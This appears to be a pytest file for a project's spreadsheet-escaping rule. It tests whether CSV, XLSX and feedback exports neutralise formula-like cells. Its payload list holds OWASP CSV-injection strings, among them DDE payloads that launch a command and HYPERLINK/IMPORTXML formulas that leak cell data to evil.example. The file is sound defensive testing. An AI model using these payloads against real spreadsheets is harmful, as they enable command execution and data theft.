"""One spreadsheet-escaping rule for the CSV and XLSX tables and the feedback export, tested with the OWASP
CSV-injection payloads: no text cell a spreadsheet could run as a formula reaches a file; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from common.spreadsheet import is_formula_like, neutralise

# Representative OWASP "CSV Injection" payloads (formula, DDE, hyperlink, leading blanks, embedded quotes/separators).
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=1+2",
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1, \"Bấm vào đây\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A2), \"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "DDE(\"cmd\";\"/C calc\";\"!A0\")A0",  # harmless on its own: no formula start
    "\t=1+2",
    "\r=1+2",
    "   =1+2",
    "\n=1+2",
    "=5",
    "-5",
    "+84 912 345 678",
]
SAFE = ["khoảng 12,5%/năm", "Sở KH&CN", "", "5,9%", "I. MỤC TIÊU > 2. Mục tiêu cụ thể", "a=b"]


def _runs_as_formula(cell: object) -> bool:
    return isinstance(cell, str) and is_formula_like(cell)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_payload_is_neutralised(payload):
    if not _runs_as_formula(payload):
        assert neutralise(payload) == payload
        return
    out = neutralise(payload)
    assert out == "'" + payload and not _runs_as_formula(out)


def test_numbers_stay_numbers_and_plain_text_is_unchanged():
    assert [neutralise(v) for v in (-5, 12.5, 0, True)] == [-5, 12.5, 0, True]
    assert [neutralise(v) for v in SAFE] == SAFE
    assert neutralise(None) == ""


def _rows():
    return [{"Chỉ tiêu": p, "Từ": -1.5, "Đến": 7, "Văn bản": "Kế hoạch"} for p in PAYLOADS + SAFE]


def test_targets_csv_and_xlsx_carry_no_formula(tmp_path):
    from openpyxl import load_workbook

    from assistant.facts.tables import to_csv, to_xlsx

    columns = ["Chỉ tiêu", "Từ", "Đến", "Văn bản"]
    rows = list(csv.DictReader(io.StringIO(to_csv(_rows(), columns))))
    assert len(rows) == len(PAYLOADS + SAFE)
    assert not [r["Chỉ tiêu"] for r in rows if _runs_as_formula(r["Chỉ tiêu"])]
    assert rows[0]["Từ"] == "-1.5"  # a number is written as a number, not "'-1.5"
    path = to_xlsx(_rows(), columns, tmp_path / "t.xlsx")
    ws = load_workbook(path).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert not [c.value for c in cells if c.data_type == "f" or _runs_as_formula(c.value)]
    assert ws["B2"].value == -1.5 and ws["C2"].value == 7 and ws["B2"].data_type == "n"


def test_feedback_csv_carries_no_formula(tmp_path):
    from assistant.feedback import FeedbackStore
    from assistant.types import Answer

    store = FeedbackStore(tmp_path / "f.sqlite3")
    for p in PAYLOADS:
        store.record(p, Answer(p, p, False, [], [], {}), "down", comment=p)
    rows = list(csv.reader(io.StringIO(store.to_csv(excel=True)[1:])))[1:]
    assert len(rows) == len(PAYLOADS)
    assert not [c for row in rows for c in row if _runs_as_formula(c)]
